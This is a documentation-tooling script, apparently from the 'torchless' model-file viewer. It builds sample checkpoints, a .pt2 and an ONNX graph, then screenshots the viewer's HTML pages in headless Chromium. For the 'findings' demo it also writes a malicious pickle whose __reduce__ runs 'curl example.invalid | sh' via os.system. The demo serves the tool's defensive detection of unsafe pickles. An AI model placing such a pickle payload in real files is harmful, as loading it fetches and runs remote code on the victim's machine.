"""Take the screenshots of docs/view.md (docs/img/view-*.png) in headless Chromium.

Builds small artifacts (a transformer-like checkpoint, a .pt2 with cond exported by torch,
two checkpoints to diff, a pickle that would call os.system), writes each one's
self-contained page with ``torchless view --html`` and photographs one view of each.
Needs torch, playwright and Debian's chromium.

Usage: ``python scripts/view_screenshots.py [OUT_DIR]`` (default docs/img)
"""

from __future__ import annotations

import os
import pickle
import sys
import tempfile

import numpy as np

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(ROOT, "src"))

import torchless  # noqa: E402
from torchless.cli.main import main as cli  # noqa: E402

CHROMIUM = os.environ.get("TORCHLESS_CHROMIUM", "/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run"]


def checkpoint(path: str, scale: float = 1.0) -> None:
    rng = np.random.default_rng(0)
    sd: dict[str, np.ndarray] = {"embed.weight": rng.standard_normal((512, 64)).astype(np.float32)}
    for i in range(4):
        for k in ("q", "k", "v", "o"):
            sd[f"layers.{i}.attn.{k}.weight"] = (rng.standard_normal((64, 64)) * 0.1 * scale).astype(np.float32)
        sd[f"layers.{i}.mlp.up.weight"] = (rng.standard_normal((256, 64)) * 0.05).astype(np.float32)
        sd[f"layers.{i}.mlp.down.weight"] = (rng.standard_normal((64, 256)) * 0.05).astype(np.float32)
        sd[f"layers.{i}.norm.weight"] = np.ones(64, dtype=np.float32)
    sd["head.weight"] = sd["embed.weight"]  # tied (shared storage in a .pt)
    if scale != 1.0:  # the "tuned" copy: an adapter added, a norm dropped
        sd["layers.0.attn.q.lora_a"] = np.zeros((8, 64), dtype=np.float32)
        del sd["layers.3.norm.weight"]
    torchless.save(sd, path)


def cond_pt2(path: str) -> None:
    import torch

    nn = torch.nn

    class Block(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = nn.Linear(8, 8)
            self.norm = nn.LayerNorm(8)

        def forward(self, x):
            return self.norm(torch.relu(self.lin(x)))

    class Model(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.enc = nn.Sequential(Block(), Block())
            self.head = nn.Linear(8, 8)

        def forward(self, x, y):
            h = self.enc(x)
            return torch.cond(h.sum() > 0, lambda a, b: self.head(a) + b, lambda a, b: a - b, (h, y))

    ep = torch.export.export(Model(), (torch.randn(3, 8), torch.randn(3, 8)))
    torch.export.save(ep, path)


def fan_in_onnx(path: str, k: int = 6) -> None:
    """x -> k unary ops -> Concat and Sum: k labelled edges into each of two nodes."""
    import onnx
    from onnx import TensorProto, helper

    ops = ["Relu", "Neg", "Abs", "Sigmoid", "Tanh", "Exp"][:k]
    nodes = [helper.make_node(op, ["x"], [f"r{i}"], name=f"/branch{i}/{op}") for i, op in enumerate(ops)]
    nodes.append(helper.make_node("Concat", [f"r{i}" for i in range(k)], ["cat"], name="/Concat", axis=1))
    nodes.append(helper.make_node("Sum", [f"r{i}" for i in range(k)], ["total"], name="/Sum"))
    vi = [helper.make_tensor_value_info(f"r{i}", TensorProto.FLOAT, [2, 3]) for i in range(k)]
    outs = [
        helper.make_tensor_value_info("cat", TensorProto.FLOAT, [2, 3 * k]),
        helper.make_tensor_value_info("total", TensorProto.FLOAT, [2, 3]),
    ]
    g = helper.make_graph(nodes, "fan_in", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2, 3])], outs, value_info=vi)
    onnx.save(helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)]), path)


class Evil:
    def __reduce__(self):
        return (os.system, ("curl example.invalid | sh",))


def main() -> None:
    out = os.path.abspath(sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "docs", "img"))
    os.makedirs(out, exist_ok=True)
    from playwright.sync_api import sync_playwright

    with tempfile.TemporaryDirectory() as tmp:
        j = lambda n: os.path.join(tmp, n)  # noqa: E731
        checkpoint(j("model.pt"))
        checkpoint(j("tuned.pt"), scale=1.1)
        cond_pt2(j("model.pt2"))
        with open(j("evil.pt"), "wb") as f:
            pickle.dump({"weights": Evil()}, f, protocol=2)
        fan_in_onnx(j("fan.onnx"))
        pages = {
            "tensors": ([j("model.pt")], "tensors"),
            "treemap": ([j("model.pt")], "treemap"),
            "graph": ([j("model.pt2")], "graph"),
            "diff": ([j("model.pt"), j("tuned.pt")], "diff"),
            "findings": ([j("evil.pt")], "findings"),
            "fanin": ([j("fan.onnx")], "graph"),
            "torchscript": ([os.path.join(ROOT, "samples", "scripted_module.pt")], "graph"),
            "code": ([os.path.join(ROOT, "samples", "scripted_module.pt")], "code"),
        }
        with sync_playwright() as pw:
            b = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
            for name, (paths, tab) in pages.items():
                html = j(f"{name}.html")
                assert cli(["view", *paths, "--html", html]) == 0
                page = b.new_page(viewport={"width": 1280, "height": 720})
                page.goto("file://" + html + "#" + tab)
                page.wait_for_selector("body[data-ready='1']")
                if name == "tensors":
                    page.locator("[data-kind='tensor'][data-name='layers.0.mlp.up.weight']").click()
                    page.wait_for_selector(".panel .stats table.kv")
                elif name == "graph":
                    page.wait_for_function("window.__tlGraphRendered !== undefined")
                    page.click("[data-action='collapse-all']")
                    page.locator("svg [data-kind='group'][data-name='enc']").click()
                    page.fill("input[aria-label='search nodes']", "linear_1")
                    page.press("input[aria-label='search nodes']", "Enter")
                elif name == "torchscript":
                    page.wait_for_function("window.__tlGraphRendered !== undefined")
                    value = page.evaluate(
                        "[...document.querySelectorAll('select.graph-select option')]"
                        ".find((o) => o.textContent.startsWith('blocks.0.forward ')).value"
                    )
                    page.select_option("select.graph-select", value)
                    page.locator("svg [data-kind='node'][data-name='h']").click()
                elif name == "fanin":
                    page.wait_for_function("window.__tlGraphRendered !== undefined")
                elif name == "diff":
                    page.locator("[data-kind='diff'][data-status='changed']").first.click()
                    page.wait_for_selector(".panel table.kv >> text=max |b−a|")
                page.wait_for_timeout(300)
                dest = os.path.join(out, f"view-{name}.png")
                # the graph's side panel ends with stack traces, which name this machine's paths
                clip = {"x": 0, "y": 0, "width": 1280, "height": 625} if name in ("graph", "torchscript") else None
                page.screenshot(path=dest, clip=clip)
                print(f"{dest}: {os.path.getsize(dest) // 1024} KiB")
                page.close()
            b.close()


if __name__ == "__main__":
    main()
